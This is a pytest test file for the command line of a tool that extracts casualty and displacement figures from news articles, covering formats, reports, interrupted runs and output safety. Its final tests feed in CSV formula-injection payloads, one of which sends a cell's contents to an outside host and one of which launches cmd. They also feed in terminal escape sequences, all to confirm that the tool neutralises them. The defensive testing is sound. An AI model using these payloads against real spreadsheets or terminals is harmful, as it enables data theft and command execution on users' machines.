"""The command line, as an analyst runs it: `python -m tracker extract ...`.

Most tests call `tracker.cli.main(argv)` in this process (fast); the few that need a real
process (pipes, `python -m`) run one. Inputs are the seed articles and small articles
written into tmp_path.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import pytest
import regex as re

from tracker import cli
from tracker.extraction.engine import extract_document
from tracker.output import export
from tracker.output.progress import Progress, wanted
from tracker.output.report import RunReport
from tracker.output.schema import NAMES
from tracker.read.documents import iter_inputs
from tracker.records import Document
from tracker.scale import jobs

ROOT = Path(__file__).resolve().parent.parent
SEEDS = ROOT / "seeds"
UNDATED_SEED = "seeds/002_73d83023f4218d2a.txt"

FAMILIES_ARTICLE = (
    "---\ntitle: Camps fill up\ndate: 2020-02-17\n---\n"
    "Some 1,200 families have fled their homes in Atareb since Friday, OCHA said.\n"
)


@dataclass(frozen=True)
class Ran:
    """What a run of the command line gave: its exit code and what it printed."""

    code: int
    out: str
    err: str


def run(argv: list[str], capsys) -> Ran:
    code = cli.main(argv)
    out, err = capsys.readouterr()
    return Ran(code, out, err)


@pytest.fixture
def seeds(tmp_path: Path, monkeypatch) -> str:
    """The seed folder, copied, and the working directory set so its documents are `seeds/...`."""
    shutil.copytree(SEEDS, tmp_path / "seeds")
    monkeypatch.chdir(tmp_path)
    return "seeds"


def interrupt_at_second_document(monkeypatch) -> None:
    """Ctrl-C while the second document is being read."""
    calls = []

    def interrupted(doc, **kwargs):
        calls.append(doc.id)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return extract_document(doc, **kwargs)

    monkeypatch.setattr(jobs, "extract_document", interrupted)


def library_rows(paths: list[str], fmt: str = "csv", **read) -> str:
    """What the library gives for the same inputs, written with the same exporter."""
    figures = [
        f for item in iter_inputs(paths, **read) if isinstance(item, Document) for f in extract_document(item)
    ]
    out = io.StringIO()
    export.write(figures, fmt, out)
    return out.getvalue()


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_stdout_holds_exactly_the_figures_of_the_library(seeds, capsys, fmt):
    ran = run(["extract", seeds, "--format", fmt], capsys)
    assert ran.code == cli.OK, ran.err
    assert ran.out == library_rows([seeds], fmt)
    assert "documents read" in ran.err, "the summary goes to stderr, never into the data"


def test_csv_output_is_the_schema_with_one_row_per_figure(seeds, capsys):
    ran = run(["extract", seeds], capsys)
    rows = list(csv.DictReader(io.StringIO(ran.out)))
    assert ran.code == cli.OK
    assert rows and tuple(rows[0]) == NAMES
    assert {r["document"] for r in rows} <= {f"seeds/{p.name}" for p in SEEDS.iterdir()}
    assert all(r["quote"] and r["indicator"] for r in rows)


@pytest.mark.parametrize(("name", "parse"), [
    ("figures.csv", lambda t: list(csv.DictReader(io.StringIO(t)))),
    ("figures.jsonl", lambda t: [json.loads(line) for line in t.splitlines()]),
    ("figures.json", json.loads),
])
def test_output_file_format_follows_its_name(seeds, capsys, tmp_path, name, parse):
    ran = run(["extract", seeds, "-o", str(tmp_path / name)], capsys)
    assert (ran.code, ran.out) == (cli.OK, "")
    text = (tmp_path / name).read_text(encoding="utf-8")
    assert text == library_rows([seeds], export.format_for(name))
    assert len(parse(text)) == len(list(csv.DictReader(io.StringIO(library_rows([seeds])))))


def test_summary_and_report_account_for_every_input(seeds, capsys, tmp_path):
    (tmp_path / "empty.txt").write_text("   \n")
    (tmp_path / "scan.txt").write_bytes(b"%PDF-1.7\n\x00\x01binary")
    report = tmp_path / "run.json"
    ran = run(
        ["extract", seeds, "empty.txt", "scan.txt", "missing.txt", "--report", str(report)], capsys
    )
    assert ran.code == cli.OK, "a run that read something succeeds even when some inputs were skipped"
    entries = json.loads(report.read_text())["inputs"]
    assert [e["source"] for e in entries if e["outcome"] == "skipped"] == ["empty.txt", "scan.txt", "missing.txt"]
    assert len(entries) == 3 + 3, "three seed documents and three skipped inputs"
    for name in ("empty.txt", "scan.txt", "missing.txt"):
        assert name in ran.err, f"the summary names the skipped input {name}"


def mixed_inputs(tmp_path: Path) -> list[str]:
    """The seeds beside inputs of every outcome: no figures, undated, warned, skipped of several kinds."""
    (tmp_path / "empty.txt").write_text("   \n")
    (tmp_path / "scan.txt").write_bytes(b"%PDF-1.7\n\x00\x01binary")
    (tmp_path / "quiet.txt").write_text("The road to Saraqeb reopened on Monday.\n")
    (tmp_path / "cp1252.txt").write_bytes(b" date 2020-02-03 Caf\xe9 owners said 40 people were killed in Idlib.\n")
    (tmp_path / "feed.jsonl").write_text(
        '{"id": "f1", "date": "2020-02-01", "text": "At least 40 people were killed in Afrin."}\n'
        "{bad\n"
        '{"id": "f2", "date": "32/13/2020", "text": "Some 300 families fled Azaz."}\n'
        "nope\n"
        '{"id": "f3", "text": "At least 40 people were killed in Afrin."}\n'
    )
    return ["seeds", "empty.txt", "scan.txt", "quiet.txt", "cp1252.txt", "feed.jsonl", "missing.txt"]


@pytest.mark.parametrize("jobs", ["1", "2"])
@pytest.mark.parametrize("suffix", [".json", ".jsonl", ".csv"])
def test_report_file_and_summary_are_those_of_a_report_keeping_every_entry(seeds, capsys, tmp_path, suffix, jobs):
    inputs = mixed_inputs(tmp_path)
    kept = RunReport(keep_entries=True)
    for item in iter_inputs(inputs):
        if isinstance(item, Document):
            kept.add(item, extract_document(item))
        else:
            kept.skip(item)
    kept.write(tmp_path / f"expected{suffix}")
    ran = run(["extract", *inputs, "-o", "figures.csv", "-j", jobs, "--report", f"run{suffix}"], capsys)
    assert ran.code == cli.OK, ran.err
    assert (tmp_path / f"run{suffix}").read_bytes() == (tmp_path / f"expected{suffix}").read_bytes()
    assert ran.err.rstrip("\n").endswith(kept.summary()), ran.err
    assert kept.skipped >= 5 and kept.without_figures and kept.undated and kept.warned, kept.summary()
    assert not [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")], "no temporary file left"


@pytest.mark.parametrize("where", ["no-such-folder/run.json", "seeds/000_b12168d2a7b52039.txt/run.csv", "a-folder.json"])
def test_a_report_that_cannot_be_written_fails_before_the_run(seeds, capsys, tmp_path, where):
    (tmp_path / "a-folder.json").mkdir()
    ran = run(["extract", seeds, "--report", where], capsys)
    assert (ran.code, ran.out) == (cli.FAILED, ""), "no figure is extracted for a run whose report cannot be written"
    assert ran.err.count("\n") == 1 and ran.err.startswith(f"tracker: error: cannot write the report {where}: "), ran.err
    assert "Traceback" not in ran.err


@pytest.mark.parametrize("suffix", [".json", ".jsonl", ".csv"])
def test_a_report_written_into_the_folder_being_read_is_not_one_of_its_inputs(seeds, capsys, tmp_path, suffix):
    ran = run(["extract", seeds, "-o", "figures.csv", "--report", f"seeds/run{suffix}"], capsys)
    assert ran.code == cli.OK, ran.err
    records = report_records(tmp_path / "seeds" / f"run{suffix}")
    assert [r["source"] for r in records] == [f"seeds/{p.name}" for p in sorted(SEEDS.glob("*.txt"))]
    assert "skipped" not in {r["outcome"] for r in records}, "no temporary file of the report was listed"
    assert sorted(p.name for p in (tmp_path / "seeds").iterdir()) == sorted([*(p.name for p in SEEDS.iterdir()), f"run{suffix}"])


@pytest.mark.parametrize("again", [False, True])
def test_figures_written_into_the_folder_being_read_are_not_read_back(seeds, capsys, tmp_path, again):
    """`extract inbox/ -o inbox/figures.csv`, run once and run again: the figures file and the
    temporary file it is written through are this run's output, named as such, not inputs."""
    argv = ["extract", seeds, "-o", "seeds/figures.csv", "--report", "run.jsonl"]
    if again:
        assert run(argv, capsys).code == cli.OK
    ran = run(argv, capsys)
    assert ran.code == cli.OK, ran.err
    records = report_records(tmp_path / "run.jsonl")
    read = [r["source"] for r in records if r["outcome"] != "skipped"]
    assert read == [f"seeds/{p.name}" for p in sorted(SEEDS.glob("*.txt"))]
    skipped = {r["source"]: r["reason"] for r in records if r["outcome"] == "skipped"}
    assert all("this run's own output" in reason for reason in skipped.values()), skipped
    assert ("seeds/figures.csv" in skipped) is again  # the file of the run before
    assert "this run's own output" in ran.err
    rows = list(csv.DictReader(open(tmp_path / "seeds" / "figures.csv", newline="", encoding="utf-8")))
    assert len(rows) == 9  # the seed figures, once


# -o or --report naming an input, or each other, would destroy what the user gave: refused
# (exit 2) before anything is read, whatever the spelling (another path, a hard link, a link).
CLASHES = [
    (["old.csv", "seeds", "-o", "old.csv"], "-o old.csv is the input old.csv"),
    (["feed.jsonl", "-o", "feed.jsonl"], "-o feed.jsonl is the input feed.jsonl"),
    (["feed.jsonl", "-o", "./sub/../feed.jsonl"], "-o ./sub/../feed.jsonl is the input feed.jsonl"),
    (["feed.jsonl", "-o", "hard.jsonl"], "-o hard.jsonl is the input feed.jsonl"),
    (["link.jsonl", "-o", "feed.jsonl"], "-o feed.jsonl is the input link.jsonl"),
    (["feed.jsonl", "-o", "x.json", "--report", "x.json"], "-o and --report are the same file (x.json)"),
    (["feed.jsonl", "--report", "feed.jsonl"], "--report feed.jsonl is the input feed.jsonl"),
]


@pytest.mark.parametrize("argv, told", CLASHES)
def test_an_output_that_would_destroy_an_input_is_refused_before_reading(seeds, capsys, tmp_path, argv, told):
    (tmp_path / "old.csv").write_text("text\nMore than 500 people were killed in Idlib.\n", encoding="utf-8")
    (tmp_path / "feed.jsonl").write_text('{"text": "About 300 people were displaced."}\n', encoding="utf-8")
    (tmp_path / "sub").mkdir()
    os.link(tmp_path / "feed.jsonl", tmp_path / "hard.jsonl")
    (tmp_path / "link.jsonl").symlink_to("feed.jsonl")
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()}
    ran = run(["extract", *argv], capsys)
    assert (ran.code, ran.out) == (cli.USAGE, ""), (argv, ran.err)
    assert ran.err.startswith(f"tracker: error: {told}") and ran.err.count("\n") == 1, ran.err
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()} == before, "every input untouched"


def report_records(path: Path) -> list[dict]:
    if path.suffix == ".json":
        return json.loads(path.read_text(encoding="utf-8"))["inputs"]
    if path.suffix == ".jsonl":
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_a_report_that_fails_half_way_is_one_line_error(seeds, capsys, tmp_path, monkeypatch):
    def full(self, entry):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(cli.ReportFile, "add", full)
    ran = run(["extract", seeds, "-o", "figures.csv", "--report", "run.jsonl"], capsys)
    assert ran.code == cli.FAILED
    assert ran.err.strip().splitlines()[-1] == "tracker: error: cannot write the report run.jsonl: No space left on device"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["seeds"], "neither figures nor report half-written"


@pytest.mark.parametrize("failure", ["interrupted", "output unwritable"])
@pytest.mark.parametrize("suffix", [".json", ".jsonl", ".csv"])
def test_a_failed_run_keeps_the_previous_report(seeds, capsys, tmp_path, monkeypatch, suffix, failure):
    report = tmp_path / f"run{suffix}"
    report.write_text("yesterday's report\n")
    output = tmp_path / "figures.csv"
    if failure == "interrupted":
        interrupt_at_second_document(monkeypatch)
    else:
        output = tmp_path / "no-such-folder" / "figures.csv"
    code = run(["extract", seeds, "-o", str(output), "--report", str(report)], capsys).code
    assert code == (cli.INTERRUPTED if failure == "interrupted" else cli.FAILED)
    assert report.read_text() == "yesterday's report\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([report.name, "seeds"]), "no temporary file left"


def test_default_date_dates_the_undated_document(seeds, capsys):
    undated = run(["extract", seeds, "--format", "jsonl"], capsys).out
    dated = run(["extract", seeds, "--format", "jsonl", "--date", "2020-02-20"], capsys).out
    before = [json.loads(line) for line in undated.splitlines() if UNDATED_SEED in line]
    after = [json.loads(line) for line in dated.splitlines() if UNDATED_SEED in line]
    assert before and all(r["date"] is None and r["published"] is None for r in before)
    assert [r["published"] for r in after] == ["2020-02-20"] * len(before)
    assert all(r["date"] for r in after)


def test_household_size_turns_families_into_people(tmp_path, capsys):
    article = tmp_path / "ocha.txt"
    article.write_text(FAMILIES_ARTICLE)
    default = run(["extract", str(article), "--format", "jsonl"], capsys).out
    six = run(["extract", str(article), "--format", "jsonl", "--household-size", "6"], capsys).out
    families = [json.loads(line) for line in default.splitlines()]
    assert [(r["value"], r["unit"], r["people"]) for r in families] == [(1200, "families", 6000)], FAMILIES_ARTICLE
    assert [json.loads(line)["people"] for line in six.splitlines()] == [7200], FAMILIES_ARTICLE


@pytest.mark.parametrize(
    ("argv", "code"),
    [
        (["extract"], cli.USAGE),
        (["extract", "seeds", "--format", "xlsx"], cli.USAGE),
        (["extract", "seeds", "--jobs", "0"], cli.USAGE),
        (["extract", "seeds", "--household-size", "-5"], cli.USAGE),
        (["extract", "seeds", "--max-bytes", "many"], cli.USAGE),
        (["extract", "seeds", "--date", "2020-13-01"], cli.USAGE),
        (["extract", "seeds", "--date", "20/01/2020"], cli.USAGE),
        (["extract", "seeds", "--report", "run.txt"], cli.USAGE),
        (["extract", "seeds", "--scheduler", "tcp://10.0.0.1:8786"], cli.USAGE),
        (["frobnicate"], cli.USAGE),
        ([], cli.USAGE),
        (["--help"], cli.OK),
        (["extract", "--help"], cli.OK),
    ],
)
def test_usage_errors_exit_2_with_a_message(seeds, capsys, argv, code):
    ran = run(argv, capsys)
    assert ran.code == code, argv
    if code == cli.USAGE:
        assert "error:" in ran.err and ran.out == "", argv


@pytest.mark.parametrize("name", ["figures.feather", "figures.xlsx", "figures.txt", "figures.CSV.gz"])
def test_an_output_ending_the_tracker_does_not_write_is_refused(seeds, tmp_path, capsys, name):
    """`-o x.xlsx` would be CSV under a name that promises a workbook: a usage error that
    names the ending and the way out, and no file is written."""
    target = tmp_path / name
    ran = run(["extract", "seeds", "-o", str(target)], capsys)
    suffix = target.suffix.lower()
    assert (ran.code, ran.out) == (cli.USAGE, ""), name
    assert f"does not write {suffix!r}" in ran.err and "--format" in ran.err and ran.err.count("error:") == 1, ran.err
    assert not target.exists() and not list(tmp_path.glob(f".{name}*")), name


@pytest.mark.parametrize(("name", "fmt", "first"), [
    ("figures.parquet", "csv", "document,indicator"),
    ("figures.txt", "jsonl", '{"document"'),
    ("figures", None, "document,indicator"),  # no ending: CSV, as before
    ("figures.NDJSON", None, '{"document"'),
])
def test_an_output_ending_is_written_when_format_says_what_to_write(seeds, tmp_path, capsys, name, fmt, first):
    target = tmp_path / name
    ran = run(["extract", "seeds", "-o", str(target), *(["--format", fmt] if fmt else [])], capsys)
    assert ran.code == cli.OK, ran.err
    assert target.read_text(encoding="utf-8").startswith(first), name


@pytest.mark.parametrize(
    ("inputs", "reason"),
    [
        (["missing.txt"], "no such file"),
        (["empty-folder"], ""),
        (["blank.txt"], "empty"),
    ],
)
def test_nothing_readable_exits_1(tmp_path, monkeypatch, capsys, inputs, reason):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "empty-folder").mkdir()
    (tmp_path / "blank.txt").write_text("\n\n")
    ran = run(["extract", *inputs], capsys)
    assert ran.code == cli.FAILED, inputs
    assert reason in ran.err and "no document could be read" in ran.err, ran.err
    assert ran.out.splitlines() == [",".join(NAMES)], "the output is still a well-formed, empty CSV"


def test_too_large_documents_are_skipped_not_truncated(seeds, capsys):
    ran = run(["extract", seeds, "--max-bytes", "100"], capsys)
    assert ran.code == cli.FAILED
    assert "too_large" in ran.err or "too large" in ran.err, ran.err


def test_an_unwritable_output_is_one_line_error(seeds, capsys, tmp_path):
    ran = run(["extract", seeds, "-o", str(tmp_path / "no-such-folder" / "out.csv")], capsys)
    assert ran.code == cli.FAILED
    assert ran.err.strip().splitlines()[-1].startswith("tracker: error: cannot write"), ran.err
    assert "Traceback" not in ran.err


def test_an_interrupted_run_keeps_the_previous_output(seeds, capsys, tmp_path, monkeypatch):
    out_file = tmp_path / "figures.csv"
    out_file.write_text("yesterday's figures\n")
    interrupt_at_second_document(monkeypatch)
    ran = run(["extract", seeds, "-o", str(out_file)], capsys)
    assert ran.code == cli.INTERRUPTED
    assert out_file.read_text() == "yesterday's figures\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["figures.csv", "seeds"], "no temporary file left"


def test_a_document_the_engine_fails_on_is_reported_and_the_rest_goes_on(seeds, capsys, tmp_path, monkeypatch):
    def fragile(doc, **kwargs):
        if doc.id.startswith("seeds/001_"):
            raise ValueError("unexpected token")
        return extract_document(doc, **kwargs)

    monkeypatch.setattr(jobs, "extract_document", fragile)
    report = tmp_path / "run.jsonl"
    ran = run(["extract", seeds, "--report", str(report)], capsys)
    assert ran.code == cli.OK
    documents = {r["document"] for r in csv.DictReader(io.StringIO(ran.out))}
    assert "seeds/000_b12168d2a7b52039.txt" in documents and not any("001_" in d for d in documents)
    failed = [json.loads(line) for line in report.read_text().splitlines() if "001_" in line]
    assert failed[0]["outcome"] == "skipped"
    assert "extraction failed: ValueError: unexpected token" in failed[0]["reason"]


def test_dask_engine_without_dask_is_one_line_error(seeds, capsys):
    pytest.importorskip("tracker.dask")
    try:
        import dask  # noqa: F401
    except ImportError:
        ran = run(["extract", seeds, "--engine", "dask"], capsys)
        assert (ran.code, ran.out) == (cli.FAILED, "")
        assert ran.err.count("\n") == 1 and "pip install 'tracker[dask]'" in ran.err, ran.err
    else:
        pytest.skip("dask is installed: tests/test_dask.py runs the Dask engine")


def test_evaluate_is_delegated(capsys, tmp_path):
    pytest.importorskip("tracker.output.evaluate")
    ran = run(["evaluate", str(tmp_path / "missing.jsonl")], capsys)
    assert ran.code != cli.OK and "missing.jsonl" in ran.err


def varied_feed(path: Path, count: int) -> Path:
    """A JSONL feed of `count` distinct articles made from the seeds."""
    bodies = [p.read_text(encoding="utf-8").split(" ", 3)[-1] for p in sorted(SEEDS.glob("*.txt"))]
    with path.open("w", encoding="utf-8") as out:
        for i in range(count):
            text = f"Field report number {i}.\n\n{bodies[i % len(bodies)]}"
            out.write(json.dumps({"id": f"report-{i}", "date": "2020-02-01", "text": text}) + "\n")
    return path


def test_python_dash_m_and_a_closed_pipe(tmp_path):
    """`python -m tracker extract ... | head -1`: the data, then a quiet stop, no traceback."""
    feed = varied_feed(tmp_path / "feed.jsonl", 2_000)  # far more output than a pipe buffers
    env = os.environ | {"PYTHONPATH": str(ROOT)}
    process = subprocess.Popen(
        [sys.executable, "-m", "tracker", "extract", str(feed)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, cwd=tmp_path,
    )
    first = process.stdout.readline()
    process.stdout.close()
    err = process.stderr.read().decode()
    code = process.wait(timeout=120)
    assert first.decode().rstrip("\r\n") == ",".join(NAMES)
    assert "Traceback" not in err, err
    assert code == cli.BROKEN_PIPE


@pytest.mark.slow
def test_dask_engine_gives_the_local_rows(tmp_path, capsys):
    pytest.importorskip("distributed", reason="the Dask engine needs tracker[dask]")
    feed = str(varied_feed(tmp_path / "feed.jsonl", 60))
    local = run(["extract", feed, "--format", "jsonl"], capsys)
    assert local.code == cli.OK
    on_dask = run(["extract", feed, "--format", "jsonl", "--engine", "dask", "--jobs", "2"], capsys)
    assert on_dask.code == cli.OK, on_dask.err
    assert on_dask.out == local.out


# --- progress -----------------------------------------------------------------------------


def test_progress_shows_documents_figures_and_rate():
    stream = io.StringIO()
    meter = Progress(stream, enabled=True, interval=0)
    meter.add(documents=1, figures=4, chars=2_500)
    meter.add(documents=1, figures=2, chars=2_500)
    meter.add(skipped=1)
    meter.close()
    drawn = stream.getvalue()
    assert "\r2 documents, 6 figures, 1 skipped - " in drawn and "docs/s" in drawn and "MB/s" in drawn
    assert drawn.endswith("\r"), "the meter is erased before the summary is printed"


def test_progress_stays_quiet_in_pipes_and_ci(monkeypatch):
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    for name in ("CI", "GITHUB_ACTIONS", "GITLAB_CI", "BUILDKITE", "JENKINS_URL"):
        monkeypatch.delenv(name, raising=False)
    assert not wanted(io.StringIO()), "a pipe or file gets no meter"
    assert wanted(Terminal())
    monkeypatch.setenv("CI", "true")
    assert not wanted(Terminal()), "a CI log gets no meter"
    stream = Terminal()
    meter = Progress(stream, interval=0)
    meter.add(documents=3)
    meter.close()
    assert stream.getvalue() == ""


@pytest.mark.parametrize("size", ["nan", "inf", "1e400", "0", "-5"])
def test_a_household_size_that_is_no_size_is_a_usage_error(size):
    run = subprocess.run(
        [sys.executable, "-m", "tracker", "extract", "seeds", "--household-size", size],
        cwd=ROOT, capture_output=True, text=True,
    )
    assert run.returncode == 2 and "household-size" in run.stderr


# --- issue 18: runs that used to end in a traceback, lose a file or run code -------------

HUGE_INTEGER = "1" * 5_000


def test_a_json_number_too_long_to_read_loses_only_its_line(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("big.jsonl").write_text(
        f'{{"text": "More than 500 civilians were killed.", "n": {HUGE_INTEGER}}}\n'
        '{"text": "About 300 people were displaced."}\n'
    )
    ran = run(["extract", "big.jsonl", "-o", "out.csv"], capsys)
    assert ran.code == cli.OK, ran.err
    assert "Traceback" not in ran.err and "1 × malformed JSON on line 1: a number too long to read" in ran.err, ran.err
    assert [r["document"] for r in csv.DictReader(open("out.csv", encoding="utf-8"))] == ["big.jsonl:2"]


def test_a_loop_of_links_is_one_unreadable_entry_not_the_end_of_the_run(seeds, capsys, tmp_path):
    (tmp_path / "seeds" / "a.txt").symlink_to("b.txt")
    (tmp_path / "seeds" / "b.txt").symlink_to("a.txt")
    ran = run(["extract", seeds, "-o", "out.csv"], capsys)
    assert ran.code == cli.OK, ran.err
    assert "2 × cannot read: Too many levels of symbolic links — seeds/a.txt, seeds/b.txt" in ran.err, ran.err
    assert len(list(csv.DictReader(open(tmp_path / "out.csv", encoding="utf-8")))) == 9


def kill_worker_at(monkeypatch, doc_id: str) -> None:
    """The worker process that extracts `doc_id` dies at once, as under `kill -9` or the
    out-of-memory killer (the pool's workers are forked: they run this patched function)."""

    def dies(doc, **kwargs):
        if doc.id == doc_id:
            os.kill(os.getpid(), signal.SIGKILL)
        return extract_document(doc, **kwargs)

    monkeypatch.setattr(jobs, "extract_document", dies)


@pytest.mark.skipif(not hasattr(signal, "SIGKILL") or sys.platform == "darwin", reason="needs fork and SIGKILL")
def test_a_worker_killed_under_jobs_is_one_error_line_naming_the_lost_documents(seeds, capsys, tmp_path, monkeypatch):
    (tmp_path / "figures.csv").write_text("the figures of yesterday\n")
    kill_worker_at(monkeypatch, sorted(f"seeds/{p.name}" for p in SEEDS.glob("*.txt"))[1])
    ran = run(["extract", seeds, "-j", "2", "-o", "figures.csv"], capsys)
    assert (ran.code, ran.out) == (cli.FAILED, ""), ran.err
    assert "Traceback" not in ran.err and "BrokenProcessPool" not in ran.err, ran.err
    (error,) = [line for line in ran.err.splitlines() if line.startswith("tracker: error:")]
    assert "a worker process died" in error and "seeds/" in error, error
    assert "failed" in ran.err and "the worker process extracting it died" in ran.err, "the summary names the lost documents"
    assert (tmp_path / "figures.csv").read_text() == "the figures of yesterday\n", "the old output survives"
    assert not [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_output_through_a_link_writes_its_target_and_keeps_the_link(seeds, capsys, tmp_path):
    (tmp_path / "real.csv").write_text("old\n")
    (tmp_path / "figures.csv").symlink_to("real.csv")
    ran = run(["extract", seeds, "-o", "figures.csv"], capsys)
    assert ran.code == cli.OK, ran.err
    assert (tmp_path / "figures.csv").is_symlink(), "the link stays a link"
    assert (tmp_path / "real.csv").read_text(encoding="utf-8") == library_rows([seeds])


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_output_into_a_named_pipe_is_written_through_not_replaced(seeds, capsys, tmp_path):
    # A pipe made here stands for every file that is no regular file (`-o /dev/null`,
    # `/dev/stdout`): a test on the real /dev/null would, if this ever broke while the
    # tests run as root, replace the machine's /dev/null with a file.
    pipe = tmp_path / "figures.pipe"
    os.mkfifo(pipe)
    received = []
    reader = threading.Thread(target=lambda: received.append(pipe.read_bytes()), daemon=True)
    reader.start()
    ran = run(["extract", seeds, "-f", "csv", "-o", str(pipe)], capsys)
    reader.join(timeout=60)
    assert ran.code == cli.OK, ran.err
    assert stat.S_ISFIFO(pipe.stat().st_mode), "the pipe is still a pipe"
    assert received == [library_rows([seeds]).encode()]


def test_temporary_files_of_a_killed_run_are_swept_by_the_next(seeds, capsys, tmp_path):
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    stale = tmp_path / f".figures.csv.{dead.stdout.strip()}.k2j4x9.part"
    stale.write_text("half of a run that was killed\n")
    unrelated = tmp_path / ".other.csv.1.abcd.part"
    unrelated.write_text("another output's file\n")
    ran = run(["extract", seeds, "-o", "figures.csv"], capsys)
    assert ran.code == cli.OK, ran.err
    assert not stale.exists(), "the dead run's temporary file is gone"
    assert unrelated.exists(), "only files of the same output name are swept"


@pytest.mark.skipif(not hasattr(signal, "SIGTERM") or os.name == "nt", reason="POSIX signals")
def test_sigterm_mid_run_leaves_no_temporary_file(tmp_path):
    feed = tmp_path / "feed.jsonl"
    row = '{"text": "More than 500 civilians have been killed in the offensive, the United Nations said."}\n'
    feed.write_text(row * 40_000)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen(
        [sys.executable, "-m", "tracker", "extract", str(feed), "-o", str(tmp_path / "out.csv"), "--no-progress"],
        cwd=tmp_path, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )
    deadline = time.monotonic() + 60
    while not list(tmp_path.glob(".out.csv.*.part")) and time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.05)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == cli.TERMINATED, err
    assert err.strip() == "tracker: terminated; no output file was left half-written", err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["feed.jsonl"]


@pytest.mark.skipif(not hasattr(signal, "SIGTERM") or os.name == "nt", reason="POSIX signals")
def test_sigterm_arriving_inside_a_finalizer_still_ends_the_run(capsys):
    # A signal handler's exception raised while a __del__ runs is swallowed by Python
    # ("Exception ignored in ..."); CI once saw a run go on to exit 0 that way.
    class Finalized:
        def __del__(self):
            os.kill(os.getpid(), signal.SIGTERM)
            for _ in range(1000):  # the handler runs here, between bytecodes
                pass

    went_on = False
    with pytest.raises(cli.Terminated):
        with cli._terminated_as_exception():
            Finalized()
            went_on = True  # the swallowed exception did not stop this line
    assert went_on
    assert "Exception ignored" not in capsys.readouterr().err


def test_spreadsheet_formulas_in_inputs_do_not_reach_a_csv_cell_raw(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("f.jsonl").write_text(
        json.dumps({"id": '=HYPERLINK("http://x/"&A1)', "outlet": "+cmd|' /C calc'!A0", "title": "@SUM(1+1)",
                    "text": "More than 500 civilians were killed."}) + "\n"
    )
    ran = run(["extract", "f.jsonl", "--report", "run.csv"], capsys)
    assert ran.code == cli.OK, ran.err
    (row,) = csv.DictReader(io.StringIO(ran.out))
    assert (row["document"], row["outlet"], row["title"]) == ("'=HYPERLINK(\"http://x/\"&A1)", "'+cmd|' /C calc'!A0", "'@SUM(1+1)")
    assert row["value"] == "500", "numbers stay numbers"
    (entry,) = csv.DictReader(open("run.csv", encoding="utf-8"))
    assert entry["source"] == "'=HYPERLINK(\"http://x/\"&A1)", "the report's CSV too"
    ran = run(["extract", "f.jsonl", "-f", "jsonl"], capsys)
    assert json.loads(ran.out)["document"] == '=HYPERLINK("http://x/"&A1)', "JSON Lines stay exact"


@pytest.mark.parametrize(
    "name, row_id",
    [
        ("e.jsonl", "a\x1b]0;OWNED\x07\nSkipped: 9999"),
        ("e.jsonl", "b\u202eslx.exe\r\n\x9b31m"),
    ],
)
def test_control_characters_in_names_reach_the_terminal_escaped(tmp_path, capsys, monkeypatch, name, row_id):
    monkeypatch.chdir(tmp_path)
    Path(name).write_text(json.dumps({"id": row_id, "text": "About 300 people were displaced."}) + "\n")
    Path("x\x1b[31mred\nfake.txt").write_text("  \n")
    ran = run(["extract", name, "x\x1b[31mred\nfake.txt"], capsys)
    assert ran.code == cli.OK, ran.err
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", ran.err), repr(ran.err)
    assert not [line for line in ran.err.splitlines() if line.startswith(("Skipped: 9999", "fake.txt"))], ran.err
    assert "\\x1b" in ran.err
